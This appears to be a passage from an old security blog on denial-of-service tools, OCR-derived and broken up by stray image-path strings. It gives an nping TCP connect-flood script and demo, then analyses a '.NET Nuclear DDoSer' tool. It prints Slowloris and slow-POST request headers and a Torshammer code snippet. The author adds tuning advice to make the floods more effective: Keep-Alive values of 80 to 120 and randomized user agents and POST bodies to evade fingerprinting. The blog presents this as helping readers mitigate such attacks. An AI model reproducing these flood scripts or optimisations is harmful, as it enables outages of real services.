The only reason this seems to be so common is because Windows does not easily allow messing with raw sockets/packets, unlessyou happen to load the winpcap driver. The “Syn Flood” and “SSYN flood” in EVERY Windows bot/flooder/RAT/whatever is really just a TCP CONNECT() flood with LOTS of threads, and closing/opening connections really fast. Unless, of course, the malware author hops into Ring 0 or gets SYSTEM privs and loads the WinPCap or similar driver.
NOTE: Older versions of Windows (XP prior to SP2?) allowed raw sockets!

Now, for this demo script I ended up using nping from the nmap suite, as I wanted to get to grips with it. See it as an upgraded hping. You should try it – I am still experimenting with it, and it looks REALLY cool! Still in development…

== SNIP ==

# tcpconnect.sh – lame tcp connect() flooder
# as you can see, I simply set –rate and -c (count) to big numbers.
echo “TCP Connect flooding $1″
nping –tcp-connect –rate=90000 -c 900000 -q $1

== SNIP ==

So, as you can see, it is a very simple script. Nothing fancy, and now for the demo…

root@bt:~# ./tcpconnect localhost
TCP Connect flooding localhost

Starting Nping 0.5.61TEST5 ( http://nmap.org/nping )at 2012-05-23 05:40 IST
^CTCP connection attempts: 10965 | Successful connections: 3256 | Failed: 7709 (70.31%)
Tx time: 6.23043s | Tx bytes/s: 140792.96 | Tx pkts/s: 1759.91
Rx time: 6.23043s | Rx bytes/s: 20903.87 | Rx pkts/s: 522.60
Nping done: 1 IP address pingedin 6.23 seconds

The output says it all really… How many connections succeeded, how many failed. I had to set the -q arguement lest I be blasted with verbose output – it is INCREDIBLY LOUD about what it is doing!

The main problems with TCP Connect flooding are… EVERYTHING! You cannot spoof your packets, you make a giant bloody mess of the logs, it is horribly inefficient, and it is almost guarenteed to get your ass caught. HOWEVER, it has one simple redeeming feature: It weeds out the idiots from the rest of us :D

In this article, we briefly went over some of the basic methods of executing Denial of Service attacks, and how they work. Hopefully this will serve to de-mystify these attacks for most of you, and if you understand them, you can maybe migitate against them better.
We also learned that 2 of the three ways discussed will likely get you arrested for various crimes (Denial of Service attacks ARE ILLEGAL!), and that Windows malware has the lamest TCP flooding style ever.

We also have now a decent basis for further articles discussing more advanced techniques!

References/Where content/images/bullshit comes fom:
Wikipedia (Images/Fact checking!)
Encyclopedia Dramatica (Some Images)
Me (cat /dev/brain)
Techworld.com – Extortion via DDoS
DarkVisitor – Extortion via DDoS arrest
LOIC Github
Wired on Anon DDoS attacksSiliconAngle on LOIC related arrest
Arbor Networks

Denial of Service: An investigation into “Nuclear DDoSer”

Ok, so I was trawling through the junk I planned on looking into during my research into “XerXes”, and had been looking at some of the HTTP flooders skids today use. Then I stumbled across this gem…

“Nuclear DDoSer”. Wow. Scrubs today cannot even discern between DoS and DDoS… BOOORING!

But wait! This one does a lot more than you think! It implements the fast-flux SOCKS/Proxy technique I spoke about (the same one XerXes uses), uses HTTP POST and HTTP GET flooding (perhaps even Slowloris/Slowpost?), and even sorts the proxies for you?

Those are things I was going to implement in “RailGun”, before Isuspended the project for various reasons!

So, lets take a look.

The Nuclear DoS tool

Nuclear DoS - Proxy Menu

The attack menu of Nuclear DoS

So, I notice it has a lot of configurable options – which I plan to eventually investigate, but for now I am more interested in what kind of “junk” it is sending…

Experimentation – The “SlowLoris”

So I started an apache server on localhost, ran Wireshark, and ran the “get flooder”. As my current OS is BackTrack 5, bt.foo.org points towards

This is what all the HTTP requests looked like…

Host: bt.foo.org
User-Agent:  Mozilla/5.0 (Windows; U;Windows  NT 6.1;fr; rv: 1.9.2) Gecko/201 00115 Firefox/3.6
Accept: text/ html,application /xhtml+xml,application/xml;q=0.9 ,*/*;q=0.8
Accept-Language: en, en-us;q=0.8,en-u s;q=0.5,en;q=0.3
Accept-Charset : ISO-8859-1,utf-8;q=0.7,*;q=0.7
Keep-Alive: 115
Connection: keep-alive

So, not 100% sure of myself, I ran SlowLoris against myself… Here be the output of the Wireshark…

Host: bt.foo.o rg
User-Agent:  Mozilla/5.0 (Win dows; U;Windows  NT 6.1;fr; rv: 1.9.2) Gecko/201 00115 Firefox/3.6
Accept: text/ html,application /xhtml+xml,application/xml;q=0.9 ,*/*;q=0.8
Accept-Language: en, en-us;q=0.8,en-u s;q=0.5,en;q=0.3
Accept-Charset: ISO-8859-1,utf -8;q=0.7,*;q=0.7
Keep-Alive: 115
Connection: keep-alive

Well shit! Here we have a gods-honest, multithreaded, multi proxy, .net version of Slowloris! For once, I actually was surprised. Skidiots NEVER write anything properly!
Add in a bit of user-agent spoofing (both the slowloris.pl I have, the latest, and the “Nuclear DDoSer” seem to use a static UA, though I didn’t investigate too much), and this could be pretty fascinating.Might I add, when either of them were ran, the server stopped replying to anything, pretty hilarious IMHO…

Experimentation! The “Slow Post”

Now to investigate the “Slow Post” it claims to have… Apache back up? Check… Ok, lets go!

Here are the headers/requests the skidware outputs…

Accept: image/gif, image/x-xbitmap, image/jpeg, image/pjpeg,  application/x-shockwave-flash, application/x-ms- application, application/x-ms-xbap, application/vnd.ms-xpsdocument, application/xaml+xml, */*
Accept-Language:  en
User-Agent:  Mozilla/4.0 (compatible;MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 2.0.50727; .NET CLR 3.0.04506.648; .NETCLR 3.5 .21022; .NET CLR  3.0.4506.2152;  .NET CLR 3.5.307 29)
Content-length: 20
Host: bt.foo.org
Connection: Keep-Alive
data=nuclear ddosser

Ok. Now again, it needs some user agent spoofing, and I do not quite understand the huge UserAgent it uses, though I assume it is a copy paste, or perhaps the author hoped a bigger user agent meant a better flood. The other MASSIVE PROBLEM is the EASILY FINGERPRINTED “data=nuclear ddoser”. A betterimplementation would have a random crap generator, and calculate content length on the fly, changing every “n” packets/requests sent.

BUG: Should specify Keep Alive value equal to or less than 120 but no less than 80.

Let’s see what the Python variant, “torshammer” (a VERY efficient tool if you tweak it a little) looks like…

POST /  HTTP/1.1
Host:  bt.foo.org
User-Agent: Mozilla /4.0 (compatible ; MSIE 7.0; Windows NT 5.1; Trident/4.0;FDM; .NET CLR 2.0.50727 ; InfoPath.2; .NET CLR 1.1.4322)
Connection: keep-alive
Keep-Alive: 900
Content-Length: 10000
Content-Type:  application/x-ww w-form-urlencoded

There is a lotof junk sent after this request, and this is what the request (in the Python script) looks like…

self.socks.send(“POST / HTTP/1.1\r\n”
“Host: %s\r\n”
“User-Agent: %s\r\n”
“Connection: keep-alive\r\n”
“Keep-Alive: 900\r\n”
“Content-Length: 10000\r\n”
“Content-Type: application/x-www-form-urlencoded\r\n\r\n” %
(self.host, random.choice(useragents))

Now, one MASSIVE failing there is in the Keep-Alive value. The author of Torshammer chose “900”. Actually, to be fair, he just optimized the PoC I released back in my evil blackhat days, and I had left it at 900 as an anti skiddo trick. The real value to choose is between 80 and 120. With these smaller values the box ACTUALLY WAITS, instead of giving error 400 all the time. This is one of those edits to make ;)

I also like his randomization of user agents, it is pretty win. Andthe POST junk it sends is as follows…

p = random.choice(string.letters+string.digits)
print term.BOL+term.UP+term.CLEAR_EOL+”Posting: %s” % p+term.NORMAL

See this? He generates random junk strings to POST to the target server, FAR harder to fingerprint! Of course, the best implementations would not just limit to letters and numbers, all kinds of characters are fine too :D

This particular “Skid Ware” actually DOES what it is meant to do, surprisingly enough. The main problem is that it does have a tendency to crash every so often (what do you expect? It is .net!), and, uh, its closed source.
But not for long!
Once I get a Windows box, or even a box capable of running a virtual machine of Windows (I had it running under Mono), I plan to reverse engineer it… Which will be hilarious! When I get around to doing that I will release the binary and source-code of this application.

If you are interested in the other applications used, the “SlowLoris”, and “Tors Hammer” programs, please check the following links:

OWASP – Layer 7 DDoS
Arbor Networks
RSnake – Slowloris

Bootnote: “NewEraCracker”, the author of LOIC, has written a PHP script (designed to be ran from the PHP command line, like “php -f SlowPOST.php”) which seems to implement the HTTP Slow Post attack fairly well.
You can see on line 201 that he has even paid attention to detail on how it works!
$out .= “Keep-Alive: “.mt_rand(60,120).”\r\n”;
Link: NewEraCracker’s SlowPost ToolI guess he finally listened to all the bitching the more clever “Anons” were doingabout needing replacements for LOIC…